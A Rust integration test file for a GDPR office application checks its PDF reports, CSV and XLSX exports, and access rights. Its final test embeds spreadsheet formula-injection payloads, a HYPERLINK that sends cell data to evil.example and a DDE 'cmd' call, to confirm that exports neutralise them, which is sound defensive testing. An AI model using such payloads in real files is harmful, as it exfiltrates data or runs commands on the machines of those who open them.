//! PDF reports (SPEC §12): the RoPA as controller and as processor, the TOM report, the
//! DPIA report and the recovery-key sheet — checked with the tools an authority's reader
//! would meet (poppler's `pdftotext`/`pdffonts`, `qpdf --check`), not with our own reader.

use std::cell::Cell;
use std::process::Command;
use std::rc::Rc;

use crate::common::*;
use dpo_desk_core::access::users::NewUser;
use dpo_desk_core::domain::activities::{ActivityInput, ActivityLink, ActivityRole, Safeguard};
use dpo_desk_core::domain::areas::AreaInput;
use dpo_desk_core::domain::companies::{CompanyInput, DesignatedDpo};
use dpo_desk_core::domain::dpias::{RiskInput, RiskKind};
use dpo_desk_core::domain::master_data::{MasterItemInput, MasterKind};
use dpo_desk_core::domain::toms::{ProtectionType, TomInput, TomStatus};
use dpo_desk_core::kernel::vocabulary::ActivityStatus;
use dpo_desk_core::services::reports::{Progress, ReportRequest};
use dpo_desk_core::{CoreError, Desk, Session};

struct Office {
    f: Fixture,
    desk: Desk,
    owner: Session,
    tenant: i64,
    company: i64,
    area: i64,
}

fn office() -> Office {
    let f = Fixture::new();
    let mut desk = f.setup("Kanzlei Sicher").desk;
    let mut owner = desk.sign_in(OWNER, PASSWORD).unwrap();
    let tenant = desk
        .create_tenant(&mut owner, "Bäckerei Müller", false)
        .unwrap()
        .id;
    let company = desk
        .create_company(
            &mut owner,
            tenant,
            &CompanyInput {
                name: "Bäckerei Müller".into(),
                legal_form: "GmbH".into(),
                street: "Hauptstraße 5".into(),
                postal_code: "50667".into(),
                city: "Köln".into(),
                country: "Deutschland".into(),
                email: "info@baeckerei-mueller.de".into(),
                is_controller: true,
                is_processor: true,
                managing_directors: vec!["Jürgen Müller".into()],
                dpo: DesignatedDpo {
                    kind: "external".into(),
                    name: "Dr. Erika Schäfer".into(),
                    email: "dsb@kanzlei-sicher.de".into(),
                    phone: "+49 221 123456".into(),
                    address: "Ringstraße 1, 50667 Köln".into(),
                },
                ..Default::default()
            },
        )
        .unwrap()
        .id;
    let area = desk
        .create_area(
            &mut owner,
            &AreaInput {
                company_id: company,
                name: "Personal".into(),
                description: String::new(),
            },
        )
        .unwrap()
        .id;
    Office {
        f,
        desk,
        owner,
        tenant,
        company,
        area,
    }
}

fn item(o: &mut Office, kind: MasterKind, name: &str, edit: impl Fn(&mut MasterItemInput)) -> i64 {
    let mut input = MasterItemInput::named(kind, name);
    edit(&mut input);
    o.desk
        .create_master_item(&mut o.owner, o.tenant, &input)
        .unwrap()
        .id
}

fn link(item_id: i64) -> ActivityLink {
    ActivityLink {
        item_id,
        detail: String::new(),
    }
}

/// An activity with every Art. 30(1) item filled in, one specific and one general measure.
fn full_activity(o: &mut Office) -> i64 {
    let subjects = item(o, MasterKind::PersonGroup, "Beschäftigte", |_| {});
    let health = item(o, MasterKind::DataCategory, "Gesundheitsdaten", |i| {
        i.special_category = true
    });
    let bank = item(o, MasterKind::DataCategory, "Bankverbindung", |_| {});
    let basis = item(
        o,
        MasterKind::LegalBasis,
        "Art. 6 Abs. 1 lit. b DSGVO",
        |_| {},
    );
    let retention = item(
        o,
        MasterKind::RetentionPeriod,
        "10 Jahre nach Austritt",
        |_| {},
    );
    let payroll = item(o, MasterKind::Recipient, "Lohnbuchhaltung", |i| {
        i.category = "internal".into()
    });
    let tax = item(o, MasterKind::Recipient, "Finanzamt Köln", |i| {
        i.category = "external".into()
    });
    let usa = item(o, MasterKind::ThirdCountry, "Vereinigte Staaten", |i| {
        i.category = "no_adequacy".into()
    });
    // Inside the EU/EEA: where data is processed, not a transfer to list under (e).
    let austria = item(o, MasterKind::ThirdCountry, "Österreich", |i| {
        i.category = "eu_eea".into()
    });
    let datev = item(o, MasterKind::Processor, "DATEV eG", |_| {});
    let software = item(o, MasterKind::Application, "Lohnprogramm Plus", |_| {});
    let specific = o
        .desk
        .create_tom(
            &mut o.owner,
            &TomInput::new(o.tenant, ProtectionType::DataAccess, "Lohnakten im Tresor"),
        )
        .unwrap()
        .id;
    let mut general = TomInput::new(
        o.tenant,
        ProtectionType::PhysicalAccess,
        "Alarmanlage mit Aufschaltung",
    );
    general.company_ids = vec![o.company];
    general.status = TomStatus::Active;
    o.desk.create_tom(&mut o.owner, &general).unwrap();
    let mut input = ActivityInput::new(o.area, "Lohn- und Gehaltsabrechnung");
    input.status = ActivityStatus::Active;
    input.responsible = "Frau Özdemir, Personalabteilung".into();
    input.purposes =
        "Abrechnung der Löhne und Gehälter; Meldungen an Sozialversicherung und Finanzamt.".into();
    input.specific_toms = "Zugriff nur für zwei benannte Personen.".into();
    let mut transfer = link(usa);
    transfer.detail = Safeguard::StandardContractualClauses.as_str().into();
    input.links = vec![
        link(subjects),
        link(health),
        link(bank),
        link(basis),
        link(retention),
        link(payroll),
        link(tax),
        transfer,
        link(austria),
        link(datev),
        link(software),
    ];
    input.tom_ids = vec![specific];
    o.desk.create_activity(&mut o.owner, &input).unwrap().id
}

fn quiet() -> Progress {
    Box::new(|_, _| true)
}

/// Writes a generated file; with `DPO_DESK_KEEP_REPORTS=DIR` a copy stays there, to be
/// looked at (`pdftoppm`) after the run.
fn write(o: &Office, name: &str, bytes: &[u8]) -> std::path::PathBuf {
    let path = o.f.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    if let Ok(dir) = std::env::var("DPO_DESK_KEEP_REPORTS") {
        std::fs::write(std::path::Path::new(&dir).join(name), bytes).unwrap();
    }
    path
}

/// What poppler reads out of the file (the words an authority's reader would see), with
/// every run of white space as one space: a label wrapped in its column reads as one.
fn pdf_text(path: &std::path::Path) -> String {
    let out = Command::new("pdftotext")
        .arg(path)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils) is installed");
    assert!(out.status.success(), "pdftotext failed on {path:?}");
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

fn assert_well_formed_with_embedded_fonts(path: &std::path::Path) {
    let check = Command::new("qpdf")
        .arg("--check")
        .arg(path)
        .output()
        .expect("qpdf is installed");
    assert!(
        check.status.success(),
        "qpdf --check: {}",
        String::from_utf8_lossy(&check.stdout)
    );
    let fonts = Command::new("pdffonts").arg(path).output().unwrap();
    let listing = String::from_utf8(fonts.stdout).unwrap();
    let rows: Vec<&str> = listing.lines().skip(2).collect();
    assert!(!rows.is_empty(), "no fonts listed: {listing}");
    for row in rows {
        // Columns: name type encoding emb sub uni object ID; "emb" must be "yes".
        let columns: Vec<&str> = row.split_whitespace().collect();
        let emb = columns[columns.len() - 5];
        assert_eq!(emb, "yes", "font not embedded: {row}");
    }
}

fn ropa(o: &mut Office, role: ActivityRole, only_active: bool, language: &str) -> String {
    let job = o
        .desk
        .prepare_report(
            &mut o.owner,
            &ReportRequest::Ropa {
                company_id: o.company,
                role,
                only_active,
                language: Some(language.into()),
            },
        )
        .unwrap();
    let file = job.render(quiet()).unwrap();
    assert!(
        file.suggested_name.ends_with(".pdf"),
        "{}",
        file.suggested_name
    );
    let path = write(o, &format!("ropa-{language}.pdf"), &file.bytes);
    assert_well_formed_with_embedded_fonts(&path);
    pdf_text(&path)
}

#[test]
fn the_controller_ropa_prints_every_art_30_item_with_the_values_of_a_filled_activity() {
    let mut o = office();
    full_activity(&mut o);
    let text = ropa(&mut o, ActivityRole::Controller, false, "de");
    for heading in [
        "Verzeichnis von Verarbeitungstätigkeiten",
        "Verantwortlicher — Art. 30 Abs. 1 DSGVO",
        "Inhalt",
        "(a) Verantwortlicher und Ansprechpartner",
        "(b) Zwecke der Verarbeitung",
        "(c) Kategorien betroffener Personen",
        "(c) Kategorien personenbezogener Daten",
        "(d) Kategorien von Empfängern",
        "(f) Fristen für die Löschung",
    ] {
        assert!(
            text.contains(heading),
            "missing heading {heading:?} in:\n{text}"
        );
    }
    assert!(
        text.contains(
            "(e) Übermittlungen an Drittländer oder internationale Organisationen mit Garantien"
        ),
        "{text}"
    );
    assert!(
        text.contains("(g) Technische und organisatorische Maßnahmen (Art. 32 Abs. 1 DSGVO)"),
        "{text}"
    );
    for value in [
        "Bäckerei Müller GmbH",
        "Hauptstraße 5",
        "50667 Köln",
        "Jürgen Müller",
        "Vertreter in der Union (Art. 27 DSGVO) keiner benannt",
        "Dr. Erika Schäfer (extern)",
        "dsb@kanzlei-sicher.de",
        "Lohn- und Gehaltsabrechnung",
        "Frau Özdemir, Personalabteilung",
        "Beschäftigte",
        "Gesundheitsdaten [Art. 9/10]",
        "Bankverbindung",
        "intern: Lohnbuchhaltung",
        "extern: Finanzamt Köln",
        "DATEV eG",
        "10 Jahre nach Austritt",
        "Lohnakten im Tresor",
        "Zugriff nur für zwei benannte Personen.",
        "Alarmanlage mit Aufschaltung (Aktiv)",
        "Lohnprogramm Plus",
    ] {
        assert!(text.contains(value), "missing value {value:?} in:\n{text}");
    }
    assert!(
        !text.contains("Österreich"),
        "an EU/EEA state is no third-country transfer: {text}"
    );
    assert!(
        text.contains("Vereinigte Staaten — Standardvertragsklauseln"),
        "{text}"
    );
    assert!(text.contains("Seite 1 von "), "{text}");
    assert!(
        text.contains("Kanzlei Sicher"),
        "the office in the footer: {text}"
    );
    // The general measures are referenced once with the page they are on.
    assert!(
        text.contains("Allgemeine Maßnahmen des Unternehmens: siehe"),
        "{text}"
    );
    assert!(
        regex_like_page_reference(&text),
        "the reference names a page: {text}"
    );
}

/// "… (Seite N)." with a number — the first pass's page numbers reached the second.
fn regex_like_page_reference(text: &str) -> bool {
    text.split("(Seite ").skip(1).any(|rest| {
        rest.chars()
            .take_while(|c| *c != ')')
            .all(|c| c.is_ascii_digit())
            && rest.starts_with(|c: char| c.is_ascii_digit())
    })
}

#[test]
fn an_empty_required_item_prints_as_not_specified_so_the_gap_is_visible() {
    let mut o = office();
    let input = ActivityInput {
        status: ActivityStatus::Active,
        ..ActivityInput::new(o.area, "Videoüberwachung")
    };
    o.desk.create_activity(&mut o.owner, &input).unwrap();
    let text = ropa(&mut o, ActivityRole::Controller, false, "en");
    assert!(text.contains("Records of processing activities"), "{text}");
    assert!(text.contains("Videoüberwachung"), "{text}");
    // Purposes, subjects, data, recipients, retention and TOMs at least.
    assert!(
        text.matches("not specified").count() >= 6,
        "gaps must show: {text}"
    );
    assert!(text.contains("none recorded"), "no transfers: {text}");
    assert!(text.contains("Page 1 of "), "{text}");
}

#[test]
fn the_cover_names_the_controller_with_its_legal_form_once() {
    let mut o = office();
    let mut input = o.desk.companies(&mut o.owner, o.tenant).unwrap()[0]
        .data
        .clone();
    input.name = "Bäckerei Müller GmbH (Filiale 1)".into();
    let company = o.company;
    o.desk
        .update_company(&mut o.owner, company, &input)
        .unwrap();
    let text = ropa(&mut o, ActivityRole::Controller, false, "de");
    assert!(text.contains("Bäckerei Müller GmbH (Filiale 1)"), "{text}");
    assert!(!text.contains("(Filiale 1) GmbH"), "the form twice: {text}");
}

#[test]
fn only_active_activities_leaves_drafts_out() {
    let mut o = office();
    full_activity(&mut o);
    o.desk
        .create_activity(
            &mut o.owner,
            &ActivityInput::new(o.area, "Entwurf Bewerbermanagement"),
        )
        .unwrap();
    let all = ropa(&mut o, ActivityRole::Controller, false, "de");
    assert!(all.contains("Entwurf Bewerbermanagement"));
    let active = ropa(&mut o, ActivityRole::Controller, true, "de");
    assert!(!active.contains("Entwurf Bewerbermanagement"), "{active}");
    assert!(active.contains("Lohn- und Gehaltsabrechnung"));
    assert!(active.contains("nur aktive Verarbeitungen"));
}

#[test]
fn the_processor_ropa_groups_activities_by_the_controller_they_serve() {
    let mut o = office();
    for (name, controller, categories) in [
        (
            "Lohnabrechnung für Kunden",
            "Metzgerei Weber KG\nMarktplatz 2, Bonn",
            "Lohn- und Gehaltsabrechnung",
        ),
        (
            "Hosting der Website",
            "Metzgerei Weber KG\nMarktplatz 2, Bonn",
            "Betrieb des Webservers",
        ),
        (
            "Aktenvernichtung",
            "Praxis Dr. Lang",
            "Vernichtung von Papierakten",
        ),
    ] {
        let input = ActivityInput {
            role: ActivityRole::Processor,
            status: ActivityStatus::Active,
            controller_details: controller.into(),
            processing_categories: categories.into(),
            ..ActivityInput::new(o.area, name)
        };
        o.desk.create_activity(&mut o.owner, &input).unwrap();
    }
    let text = ropa(&mut o, ActivityRole::Processor, false, "de");
    assert!(
        text.contains("Auftragsverarbeiter — Art. 30 Abs. 2 DSGVO"),
        "{text}"
    );
    assert!(text.contains("1. Metzgerei Weber KG"), "{text}");
    assert!(text.contains("2. Praxis Dr. Lang"), "{text}");
    assert!(text.contains("Marktplatz 2, Bonn"), "{text}");
    for value in [
        "Betrieb des Webservers",
        "Vernichtung von Papierakten",
        "(b) Kategorien von Verarbeitungen",
    ] {
        assert!(text.contains(value), "{value:?} missing: {text}");
    }
    assert!(text.contains("(b) Kategorien von Verarbeitungen im Auftrag des Verantwortlichen"));
}

#[test]
fn the_tom_report_groups_the_company_measures_by_protection_type_with_reviews() {
    let mut o = office();
    let mut alarm = TomInput::new(o.tenant, ProtectionType::PhysicalAccess, "Alarmanlage");
    alarm.company_ids = vec![o.company];
    alarm.description = "Meldet Einbrüche an den Wachdienst.".into();
    alarm.implementation = "Aufschaltung auf die Leitstelle der Wach GmbH".into();
    alarm.next_review = chrono::NaiveDate::from_ymd_opt(2027, 3, 1);
    o.desk.create_tom(&mut o.owner, &alarm).unwrap();
    let mut backup = TomInput::new(o.tenant, ProtectionType::Availability, "Tägliche Sicherung");
    backup.company_ids = vec![o.company];
    backup.status = TomStatus::Active;
    o.desk.create_tom(&mut o.owner, &backup).unwrap();
    let job = o
        .desk
        .prepare_report(
            &mut o.owner,
            &ReportRequest::Toms {
                company_id: o.company,
                language: Some("de".into()),
            },
        )
        .unwrap();
    let path = write(&o, "toms.pdf", &job.render(quiet()).unwrap().bytes);
    assert_well_formed_with_embedded_fonts(&path);
    let text = pdf_text(&path);
    for value in [
        "Technische und organisatorische Maßnahmen",
        "Zutrittskontrolle",
        "Verfügbarkeitskontrolle",
        "Alarmanlage",
        "Meldet Einbrüche an den Wachdienst.",
        "Aufschaltung auf die Leitstelle der Wach GmbH",
        "01.03.2027",
        "Tägliche Sicherung",
        "2 Maßnahmen gelten",
    ] {
        assert!(text.contains(value), "{value:?} missing: {text}");
    }
    // The catalogue's 104 measures are not valid for the company and stay out.
    assert!(!text.contains("Videoüberwachung der Eingänge"), "{text}");
}

#[test]
fn the_dpia_report_has_every_section_the_risk_table_and_the_map() {
    let mut o = office();
    let activity = full_activity(&mut o);
    let dpia = o.desk.start_dpia(&mut o.owner, activity).unwrap();
    let mut input = dpia.data.clone();
    input.description = "Abrechnung mit Gesundheitsdaten aus Krankmeldungen.".into();
    input.dpo_name = "Dr. Erika Schäfer".into();
    input.risks = vec![
        RiskInput {
            likelihood: Some(3),
            severity: Some(4),
            residual_likelihood: Some(1),
            residual_severity: Some(4),
            impacts: "Bloßstellung erkrankter Beschäftigter".into(),
            ..RiskInput::standard(RiskKind::IllegitimateAccess)
        },
        RiskInput {
            title: "Fehlversand per E-Mail".into(),
            likelihood: Some(2),
            severity: Some(2),
            ..RiskInput::standard(RiskKind::Own)
        },
    ];
    let dpia = o.desk.update_dpia(&mut o.owner, dpia.id, &input).unwrap();
    let job = o
        .desk
        .prepare_report(
            &mut o.owner,
            &ReportRequest::Dpia {
                dpia_id: dpia.id,
                language: Some("de".into()),
            },
        )
        .unwrap();
    let path = write(&o, "dpia.pdf", &job.render(quiet()).unwrap().bytes);
    assert_well_formed_with_embedded_fonts(&path);
    let text = pdf_text(&path);
    for value in [
        "Datenschutz-Folgenabschätzung",
        "Lohn- und Gehaltsabrechnung",
        "Beschreibung und Zwecke",
        "Notwendigkeit und Verhältnismäßigkeit",
        "Risikomatrix",
        "DSB und Betroffene",
        "Freigabe",
        "Abrechnung mit Gesundheitsdaten aus Krankmeldungen.",
        "R1 Unberechtigter Zugang zu Daten",
        "R2 Fehlversand per E-Mail",
        "Bloßstellung erkrankter Beschäftigter",
        "R1'",
        "Version 1",
    ] {
        assert!(text.contains(value), "{value:?} missing: {text}");
    }
}

#[test]
fn progress_runs_to_the_end_and_a_cancel_stops_the_work_with_nothing_made() {
    let mut o = office();
    full_activity(&mut o);
    let request = ReportRequest::Ropa {
        company_id: o.company,
        role: ActivityRole::Controller,
        only_active: false,
        language: None,
    };
    let seen = Rc::new(Cell::new((0u64, 0u64)));
    let record = seen.clone();
    let job = o.desk.prepare_report(&mut o.owner, &request).unwrap();
    job.render(Box::new(move |done, total| {
        assert!(done <= total);
        record.set((done, total));
        true
    }))
    .unwrap();
    let (done, total) = seen.get();
    assert!(total > 0 && done == total, "{done} of {total}");

    let job = o.desk.prepare_report(&mut o.owner, &request).unwrap();
    let calls = Rc::new(Cell::new(0));
    let counted = calls.clone();
    let result = job.render(Box::new(move |_, _| {
        counted.set(counted.get() + 1);
        counted.get() < 2
    }));
    assert!(matches!(result, Err(CoreError::Cancelled)), "{result:?}");
    assert_eq!(calls.get(), 2, "the work stops at the first refusal");
}

#[test]
fn the_owner_prints_the_recovery_key_sheet_after_the_password_and_nobody_else_can() {
    let f = Fixture::new();
    let created = f.setup("Kanzlei Sicher");
    let shown_at_setup = created.recovery_key.display();
    let mut desk = created.desk;
    let mut owner = desk.sign_in(OWNER, PASSWORD).unwrap();
    assert!(matches!(
        desk.recovery_sheet(&mut owner, "not the password"),
        Err(CoreError::Validation {
            field: "password",
            ..
        })
    ));
    let sheet = desk.recovery_sheet(&mut owner, PASSWORD).unwrap();
    let path = f.path().join("sheet.pdf");
    let bytes = sheet.render(quiet()).unwrap().bytes;
    std::fs::write(&path, &bytes).unwrap();
    if let Ok(dir) = std::env::var("DPO_DESK_KEEP_REPORTS") {
        std::fs::write(std::path::Path::new(&dir).join("sheet.pdf"), &bytes).unwrap();
    }
    assert_well_formed_with_embedded_fonts(&path);
    let text = pdf_text(&path);
    let groups: Vec<&str> = shown_at_setup.split('-').collect();
    for group in &groups {
        assert!(text.contains(group), "group {group} missing: {text}");
    }
    assert!(text.contains("Kanzlei Sicher"));
    assert!(text.contains("Recovery key") || text.contains("Wiederherstellungsschlüssel"));

    desk.create_user(
        &mut owner,
        &NewUser {
            name: "Verwalterin".into(),
            is_admin: true,
            roles: vec![],
            tenants: vec![],
            password: Some("Verwaltung-2026!".into()),
        },
    )
    .unwrap();
    let mut admin = desk.sign_in("Verwalterin", "Verwaltung-2026!").unwrap();
    assert!(matches!(
        desk.recovery_sheet(&mut admin, PASSWORD),
        Err(CoreError::OwnerRequired)
    ));
}

#[test]
fn a_report_can_be_made_from_a_backup_as_it_was_then() {
    let mut o = office();
    full_activity(&mut o);
    let entry = o.desk.create_backup(&mut o.owner, &mut |_, _| {}).unwrap();
    let file = o.f.path().join("copy.dpobackup");
    o.desk
        .download_backup(&mut o.owner, entry.id, &file)
        .unwrap();
    // Renamed after the backup: the report from the backup shows the old name.
    let activity = o.desk.activities(&mut o.owner, o.tenant, None).unwrap()[0].id;
    let mut changed = o.desk.activity(&mut o.owner, activity).unwrap().data;
    changed.name = "Umbenannt nach der Sicherung".into();
    o.desk
        .update_activity(&mut o.owner, activity, &changed)
        .unwrap();
    let job = o
        .desk
        .prepare_report_from_backup(
            &mut o.owner,
            &file,
            &ReportRequest::Ropa {
                company_id: o.company,
                role: ActivityRole::Controller,
                only_active: false,
                language: Some("de".into()),
            },
            &mut |_, _| {},
        )
        .unwrap();
    let path = write(&o, "from-backup.pdf", &job.render(quiet()).unwrap().bytes);
    let text = pdf_text(&path);
    assert!(text.contains("Lohn- und Gehaltsabrechnung"), "{text}");
    assert!(!text.contains("Umbenannt nach der Sicherung"), "{text}");
}

/// The XLSX export read back by a spreadsheet engine (openpyxl) holds the same rows as the
/// CSV export, with a bold frozen header, an auto-filter and dates stored as dates.
#[test]
fn the_xlsx_export_opens_in_a_spreadsheet_engine_with_the_rows_of_the_csv() {
    use dpo_desk_core::services::exports::ExportFormat;
    let mut o = office();
    let activity = full_activity(&mut o);
    let mut input = o.desk.activity(&mut o.owner, activity).unwrap().data;
    input.review_planned = chrono::NaiveDate::from_ymd_opt(2027, 1, 31);
    o.desk
        .update_activity(&mut o.owner, activity, &input)
        .unwrap();
    o.desk
        .create_activity(
            &mut o.owner,
            &ActivityInput::new(o.area, "Zweite Verarbeitung"),
        )
        .unwrap();
    let csv = o
        .desk
        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Csv)
        .unwrap();
    let xlsx = o
        .desk
        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Xlsx)
        .unwrap();
    assert!(xlsx.suggested_name.ends_with(".xlsx"));
    let csv_path = write(&o, "list.csv", &csv.bytes);
    let xlsx_path = write(&o, "list.xlsx", &xlsx.bytes);
    let script = r#"
import csv, datetime, json, sys
from openpyxl import load_workbook
ws = load_workbook(sys.argv[1]).active
with open(sys.argv[2], encoding="utf-8-sig", newline="") as f:
    expected = list(csv.reader(f))
def shown(v):
    if v is None: return ""
    if isinstance(v, datetime.datetime): return v.date().isoformat()
    if isinstance(v, float) and v.is_integer(): return str(int(v))
    return str(v)
got = [[shown(c.value) for c in row] for row in ws.iter_rows(max_col=len(expected[0]))]
dates = [c.value for c in ws[2] if isinstance(c.value, datetime.datetime)]
print(json.dumps({
    "same": got == expected,
    "rows": len(got),
    "bold": all(c.font.b for c in ws[1]),
    "frozen": ws.freeze_panes,
    "filter": ws.auto_filter.ref,
    "dates": len(dates),
    "id_is_number": isinstance(ws["A2"].value, (int, float)),
}))
"#;
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&xlsx_path)
        .arg(&csv_path)
        .output()
        .expect("python3 with openpyxl is installed");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["same"], true, "{report}");
    assert_eq!(report["rows"], 3, "{report}");
    assert_eq!(report["bold"], true, "{report}");
    assert_eq!(report["frozen"], "A2", "{report}");
    assert!(
        report["filter"].as_str().unwrap().starts_with("A1:"),
        "{report}"
    );
    assert_eq!(report["id_is_number"], true, "{report}");
    assert!(report["dates"].as_u64().unwrap() >= 1, "{report}");
}

/// Measures are a right of their own: a user who may print the records but not view TOMs
/// gets the record without the names of measures.
#[test]
fn the_record_names_no_measures_for_a_user_who_may_not_view_them() {
    use dpo_desk_core::kernel::vocabulary::{ObjectType, Right};
    let mut o = office();
    full_activity(&mut o);
    let mut printer = staff_user(
        &mut o.desk,
        &mut o.owner,
        "Drucker",
        "Drucken-2026-sicher",
        &[
            (ObjectType::ProcessingActivity, Right::View),
            (ObjectType::ProcessingActivity, Right::Print),
            (ObjectType::Company, Right::View),
            (ObjectType::Area, Right::View),
        ],
        vec![o.tenant],
    );
    let job = o
        .desk
        .prepare_report(
            &mut printer,
            &ReportRequest::Ropa {
                company_id: o.company,
                role: ActivityRole::Controller,
                only_active: false,
                language: Some("de".into()),
            },
        )
        .unwrap();
    let path = write(&o, "printer.pdf", &job.render(quiet()).unwrap().bytes);
    let text = pdf_text(&path);
    assert!(text.contains("Lohn- und Gehaltsabrechnung"), "{text}");
    assert!(!text.contains("Alarmanlage mit Aufschaltung"), "{text}");
    assert!(!text.contains("Lohnakten im Tresor"), "{text}");
}

/// A German DPO's CSV: semicolons (German spreadsheets split on them), every field of the
/// record as a column, values in words with the article of a legal basis and the safeguard of
/// a transfer, dates as German spreadsheets read them; the office may choose the separator.
#[test]
fn the_csv_export_has_every_field_in_words_with_the_separator_of_the_language() {
    use dpo_desk_core::services::exports::ExportFormat;
    use dpo_desk_core::store::settings::SettingKey;
    let mut o = office();
    let activity = full_activity(&mut o);
    let contract = item(&mut o, MasterKind::LegalBasis, "Vertragserfüllung", |i| {
        i.code = "Art. 6 Abs. 1 lit. b DSGVO".into()
    });
    let mut input = o.desk.activity(&mut o.owner, activity).unwrap().data;
    input.review_planned = chrono::NaiveDate::from_ymd_opt(2027, 1, 31);
    input.dpia_reason = "Keine zwei Kriterien der WP248".into();
    input.review_result = "Ohne Beanstandung".into();
    input.links.push(link(contract));
    o.desk
        .update_activity(&mut o.owner, activity, &input)
        .unwrap();
    o.desk.set_language(&mut o.owner, "de").unwrap();
    let export = |o: &mut Office| {
        o.desk
            .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Csv)
            .unwrap()
            .bytes
    };
    let bytes = export(&mut o);
    let path = write(&o, "verarbeitungen.csv", &bytes);
    // Python's csv module guesses the dialect as a spreadsheet would, then reads the file.
    let script = r#"
import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    sample = f.read()
dialect = csv.Sniffer().sniff(sample.splitlines()[0])
rows = list(csv.reader(sample.splitlines(), dialect))
print(json.dumps({"delimiter": dialect.delimiter, "row": dict(zip(rows[0], rows[1])),
                  "widths": sorted({len(r) for r in rows})}))
"#;
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&path)
        .output()
        .expect("python3");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["delimiter"], ";", "{report}");
    assert_eq!(report["widths"], serde_json::json!([31]), "{report}");
    let row = &report["row"];
    for (column, value) in [
        ("Status", "Aktiv"),
        ("Rolle", "Verantwortlicher"),
        ("Spezifische TOMs", "Lohnakten im Tresor"),
        (
            "Weitere Maßnahmen",
            "Zugriff nur für zwei benannte Personen.",
        ),
        ("Begründung DSFA", "Keine zwei Kriterien der WP248"),
        ("Ergebnis der Prüfung", "Ohne Beanstandung"),
        ("Nächste Prüfung", "31.01.2027"),
    ] {
        assert_eq!(row[column], value, "{column}: {report}");
    }
    let text = |column: &str| row[column].as_str().unwrap().to_string();
    assert!(
        text("Rechtsgrundlagen").contains("Vertragserfüllung (Art. 6 Abs. 1 lit. b DSGVO)"),
        "{report}"
    );
    assert!(
        text("Datenkategorien").contains("Gesundheitsdaten (Art. 9/10)"),
        "{report}"
    );
    assert!(
        text("Länder (Garantie einer Übermittlung)").contains(
            "Vereinigte Staaten (Standardvertragsklauseln (Art. 46 Abs. 2 lit. c DSGVO))"
        ),
        "{report}"
    );
    assert!(
        text("Länder (Garantie einer Übermittlung)").contains("Österreich (EU/EWR)"),
        "{report}"
    );
    assert_eq!(
        row.as_object()
            .unwrap()
            .values()
            .filter(
                |v| ["active", "not_required", "standard_contractual_clauses"]
                    .iter()
                    .any(|code| v.as_str().unwrap().contains(code))
            )
            .count(),
        0,
        "no raw codes: {report}"
    );

    o.desk
        .update_settings(&mut o.owner, &[(SettingKey::CsvSeparator, 1)])
        .unwrap();
    let chosen = String::from_utf8(export(&mut o)).unwrap();
    assert!(
        chosen
            .trim_start_matches('\u{feff}')
            .starts_with("ID,Bezeichnung,"),
        "the office's choice wins: {chosen}"
    );
}

/// Text that a spreadsheet would run as a formula stays text: in the CSV it carries a
/// leading apostrophe, in the XLSX it is a string cell (no formula element), read back by
/// a spreadsheet engine.
#[test]
fn formulas_typed_into_records_never_run_when_an_export_is_opened() {
    use dpo_desk_core::services::exports::ExportFormat;
    let mut o = office();
    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")";
    let mut input = ActivityInput::new(o.area, attack);
    input.purposes = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    input.responsible = "+49 30 123456".into();
    o.desk.create_activity(&mut o.owner, &input).unwrap();
    let csv = o
        .desk
        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Csv)
        .unwrap();
    let text = String::from_utf8(csv.bytes).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'@SUM(1+1)"), "{text}");
    assert!(
        !text.contains(",=HYPERLINK")
            && !text.contains(";=HYPERLINK")
            && !text.contains("\"=HYPERLINK")
    );
    let xlsx = o
        .desk
        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Xlsx)
        .unwrap();
    let path = write(&o, "attack.xlsx", &xlsx.bytes);
    let script = r#"
import json, sys, zipfile
from openpyxl import load_workbook
sheet = [n for n in zipfile.ZipFile(sys.argv[1]).namelist() if n.startswith("xl/worksheets/")][0]
xml = zipfile.ZipFile(sys.argv[1]).read(sheet).decode()
ws = load_workbook(sys.argv[1]).active
cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@", "+"))]
print(json.dumps({"formulas": xml.count("<f>") + xml.count("<f "), "texts": [[c.value, c.data_type] for c in cells]}))
"#;
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&path)
        .output()
        .expect("python3 with openpyxl");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(seen["formulas"], 0, "{seen}");
    let texts = seen["texts"].as_array().unwrap();
    assert!(
        texts.iter().any(|t| t[0] == attack && t[1] == "s"),
        "{seen}"
    );
}
